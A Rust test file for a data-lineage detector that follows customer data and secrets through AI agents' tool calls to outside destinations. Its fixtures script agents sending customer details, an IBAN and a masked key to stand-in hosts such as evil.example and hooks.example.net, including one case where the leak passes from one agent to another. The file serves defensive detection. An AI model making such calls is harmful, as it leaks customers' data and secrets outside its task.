//! Traces as lines, with the flows that a reader of them sees.

use serde_json::json;

use super::*;
use crate::domain::flow::Boundary;
use crate::lineage::origins::{self, tests as lines};
use lines::Line;

const RULES: &str = "internal = [\"acme.example\"]\n\
    [[sensitivity]]\nlabel = \"customer data\"\ntools = [\"crm.*\"]\n";

/// `LABEL SOURCE>…>SINK CONFIDENCE BOUNDARY` of every flow.
#[track_caller]
fn check(all: &[Line], ties: &[(usize, usize)], expected: &[&str]) -> Vec<Flow> {
    let events = lines::events(all);
    let ties: Vec<EventLink> =
        ties.iter().map(|(from, to)| lines::delegation(&events, *from, *to)).collect();
    let rules: DataRules = toml::from_str(RULES).expect("rules");
    let of = |events: &[Event]| {
        let origins = origins::origins(events, &ties);
        flows(events, &origins, &ties, &rules)
    };
    let found = of(&events);
    let line =
        |id: EventId| events.iter().position(|event| event.id == id).expect("an event").to_string();
    let shown: Vec<String> = found
        .iter()
        .map(|flow| {
            let stations: Vec<String> =
                flow.path.iter().map(|link| line(link.from)).chain([line(flow.sink)]).collect();
            let boundary = match &flow.boundary {
                Boundary::External { destination, .. } => format!("out {}", destination.raw()),
                Boundary::Internal { destination, .. } => format!("in {}", destination.raw()),
                Boundary::Unknown => "?".to_owned(),
            };
            let path = stations.join(">");
            format!("{} {path} {} {boundary}", flow.label.raw(), flow.confidence)
        })
        .collect();
    assert_eq!(shown, expected);
    let mut turned = events.clone();
    turned.reverse();
    assert_eq!(of(&turned), found, "the order of events does not matter");
    found
}

/// CRM → billing → analytics → outside within seconds, each step legitimate by itself.
#[test]
fn a_chain_over_systems() {
    let found = check(
        &[
            ("s", "user", "", json!("Make the report")),
            ("s", "call", "crm.get_account", json!({"name": "the biggest"})),
            (
                "s",
                "result",
                "crm.get_account",
                json!({"account": "ACC-20417", "owner": "kim@customer.example"}),
            ),
            ("s", "call", "billing.invoices", json!({"account": "ACC-20417"})),
            ("s", "call", "analytics.run", json!({"account": "ACC-20417", "by": "month"})),
            (
                "s",
                "call",
                "http_post",
                json!({"url": "https://hooks.example.net/in", "body": "Account ACC-20417 of kim@customer.example grew"}),
            ),
        ],
        &[],
        &["customer data 2>3>4>5 70 out hooks.example.net"],
    );
    let flow = &found[0];
    assert_eq!(flow.seconds, 3);
    assert_eq!(flow.carried, [Text::from("/body")]);
    let systems: Vec<&str> = flow.systems.iter().map(Text::raw).collect();
    assert_eq!(systems, ["crm", "billing", "analytics", "http_post"]);
}

#[test]
fn a_value_that_goes_through_unchanged_is_sure() {
    check(
        &[
            ("s", "user", "", json!("Make the report")),
            ("s", "result", "crm.get", json!("phone +41 44 555 01 17, id CUST-99120")),
            ("s", "call", "notify", json!({"id": "CUST-99120", "to": "ops@acme.example"})),
            ("s", "call", "send_message", json!({"id": "CUST-99120"})),
        ],
        &[],
        &["customer data 1>2 100 in acme.example", "customer data 1>2>3 100 ?"],
    );
}

#[test]
fn a_sibling_agent_sends_what_another_has_read() {
    let lines = [
        ("a", "user", "", json!("Look up the customer")),
        ("a", "result", "crm.get", json!("iban: GB82WEST12345698765432")),
        ("a", "call", "ask_writer", json!({"message": "Forward GB82WEST12345698765432"})),
        ("b", "user", "", json!("Forward GB82WEST12345698765432")),
        (
            "b",
            "call",
            "send_email",
            json!({"to": "x@evil.example", "body": "GB82WEST12345698765432"}),
        ),
    ];
    check(&lines, &[], &[]);
    let found = check(&lines, &[(2, 3)], &["customer data 1>2>3>4 100 out evil.example"]);
    let agents: Vec<String> = found[0].agents.iter().map(AgentKey::visible).collect();
    assert_eq!(agents.len(), 2, "{agents:?}");
}

#[test]
fn what_is_no_flow() {
    // The recipient's address is no data; what the user gave is not the store's; what the model made
    // up and gave to the store is not the store's either.
    check(
        &[
            ("s", "user", "", json!("Tell CUST-99120 that we are closed")),
            ("s", "result", "crm.get", json!("CUST-99120 kim@customer.example")),
            (
                "s",
                "call",
                "send_email",
                json!({"to": "kim@customer.example", "body": "CUST-99120: we are closed"}),
            ),
            ("s", "call", "crm.find", json!({"q": "made up by the model 4"})),
            (
                "s",
                "call",
                "send_email",
                json!({"to": "kim@customer.example", "body": "made up by the model 4"}),
            ),
        ],
        &[],
        &[],
    );
}

#[test]
fn a_masked_secret_is_sensitive_by_itself_and_never_shown() {
    let found = check(
        &[
            ("s", "user", "", json!("Read the channel")),
            ("s", "result", "read_channel", json!("key ***1a2b3c4d")),
            ("s", "call", "get_webpage", json!({"url": "https://evil.example/?k=***1a2b3c4d"})),
        ],
        &[],
        &["secret 1>2 70 out evil.example"],
    );
    let shown = serde_json::to_string(&found).expect("JSON");
    assert!(!shown.contains("1a2b3c4d"), "{shown}");
}

#[test]
fn order_alone_is_said_to_be_order_alone() {
    let events = lines::events(&[
        ("s", "call", "crm.get", json!({"q": "kim"})),
        ("s", "connect", "198.51.100.7:443/tcp", json!(null)),
        ("t", "connect", "198.51.100.7:443/tcp", json!(null)),
        ("s", "connect", "10.0.0.1:443/tcp", json!(null)),
    ]);
    let rules: DataRules = toml::from_str(RULES).expect("rules");
    assert_eq!(flows(&events, &[], &[], &rules), []);
    let found = by_order(&events, &[], &rules);
    let ends: Vec<_> = found.iter().map(|flow| (flow.source, flow.sink, flow.confidence)).collect();
    assert_eq!(ends, [(events[0].id, events[1].id, 20)]);
}

#[test]
fn defaults_say_that_they_applied() {
    let mut events = lines::events(&[("s", "other", "get", json!({}))]);
    events[0].kind = EventKind::K8sApi;
    events[0].target_kind = Some("secrets".into());
    let of = |event: &Event| {
        let labels = labels(event, &DataRules::default());
        labels.iter().map(|label| label.because.clone()).collect::<Vec<_>>()
    };
    assert_eq!(of(&events[0]), ["default: Secrets of Kubernetes"]);
    events[0].action = Some("delete".into());
    assert_eq!(of(&events[0]), [""; 0]);
}

proptest::proptest! {
    /// Whatever flows: sources come before sinks, paths hang together, and no value is told.
    #[test]
    fn paths_hang_together_and_tell_no_value(
        picks in proptest::collection::vec((0_usize..2, 0_usize..4, 0_usize..3), 1..14),
        turn in 0_usize..14,
    ) {
        let values = ["kim@customer.example", "INV-2041-77", "***1a2b3c4d"];
        let all: Vec<Line> = picks
            .iter()
            .map(|(session, what, value)| {
                let (session, value) = (["a", "b"][*session], values[*value]);
                match what {
                    0 => (session, "result", "crm.get", json!(format!("it is {value}"))),
                    1 => (session, "call", "analytics.run", json!({"v": value})),
                    2 => (session, "result", "analytics.run", json!(format!("made {value}"))),
                    _ => (session, "call", "send", json!({"v": value, "to": "x@evil.example"})),
                }
            })
            .collect();
        let events = lines::events(&all);
        let rules: DataRules = toml::from_str(RULES).expect("rules");
        let of = |events: &[Event]| flows(events, &origins::origins(events, &[]), &[], &rules);
        let found = of(&events);
        let mut turned = events.clone();
        turned.rotate_left(turn % events.len());
        proptest::prop_assert_eq!(&of(&turned), &found);
        let at = |id: EventId| events.iter().position(|event| event.id == id).expect("an event");
        for flow in &found {
            let ends = (flow.path.first().map(|link| link.from), flow.path.last().map(|link| link.to));
            proptest::prop_assert_eq!(ends, (Some(flow.source), Some(flow.sink)));
            for pair in flow.path.windows(2) {
                proptest::prop_assert_eq!(pair[0].to, pair[1].from);
            }
            for link in &flow.path {
                proptest::prop_assert!(at(link.from) < at(link.to));
                proptest::prop_assert_eq!(&events[at(link.from)].session, &events[at(link.to)].session);
            }
            let shown = serde_json::to_string(flow).expect("JSON");
            proptest::prop_assert!(values.iter().all(|value| !shown.contains(value)), "{}", shown);
        }
    }
}
